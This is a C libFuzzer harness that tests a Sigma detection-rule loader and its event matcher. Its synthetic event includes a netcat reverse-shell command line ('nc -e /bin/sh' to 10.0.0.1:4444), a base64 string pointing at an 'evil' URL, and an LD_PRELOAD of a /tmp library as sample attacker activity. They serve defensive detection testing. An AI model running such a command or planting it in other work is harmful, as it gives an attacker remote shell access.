// SPDX-License-Identifier: GPL-2.0
/* sigma_fuzz.c - libFuzzer target: the Sigma rule loader, and matching what it loads. */

#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "sigma.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static const struct whorl_sigma_env env[] = { { "LD_PRELOAD", "/tmp/x.so" } };
	struct whorl_sigma_event ev = { .env = env, .nenv = 1 };
	const struct whorl_sigma_meta *hit;
	struct whorl_sigma_set set = { 0 };
	char err[WHORL_SIGMA_ERR_MAX];
	int ret;

	ret = whorl_sigma_load_buf(&set, "fuzz.yml", (const char *)data, size, err);
	if (ret == 1 && (strncmp(err, "fuzz.yml:", 9) || set.n || set.refused != 1))
		abort();	/* every refusal names file and line, and loads nothing */
	if (ret == 0) {
		if (set.n != 1 || !whorl_sigma_rule_meta(&set, 0)->title)
			abort();
		/* once with every field absent, once with all of them present */
		if (whorl_sigma_match(&set, &ev, &hit, 1) < 0)
			abort();
		ev.field[WHORL_SF_IMAGE] = "/usr/bin/nc";
		ev.field[WHORL_SF_COMMAND_LINE] = "nc -e /bin/sh 10.0.0.1 4444 aHR0cDovL2V2aWw=";
		ev.field[WHORL_SF_PARENT_IMAGE] = "/usr/sbin/nginx";
		ev.field[WHORL_SF_PARENT_COMMAND_LINE] = "nginx: worker process";
		ev.field[WHORL_SF_USER] = "root";
		ev.field[WHORL_SF_CURRENT_DIRECTORY] = "/tmp";
		ev.field[WHORL_SF_LOGON_ID] = "0";
		ev.field[WHORL_SF_STDIN_REMOTE_ADDRESS] = "10.0.0.1";
		ev.field[WHORL_SF_STDOUT_REMOTE_ADDRESS] = "2001:db8::1";
		ev.field[WHORL_SF_LAYER] = "added";
		if (whorl_sigma_match(&set, &ev, &hit, 1) < 0)
			abort();
	}
	whorl_sigma_free(&set);
	return 0;
}
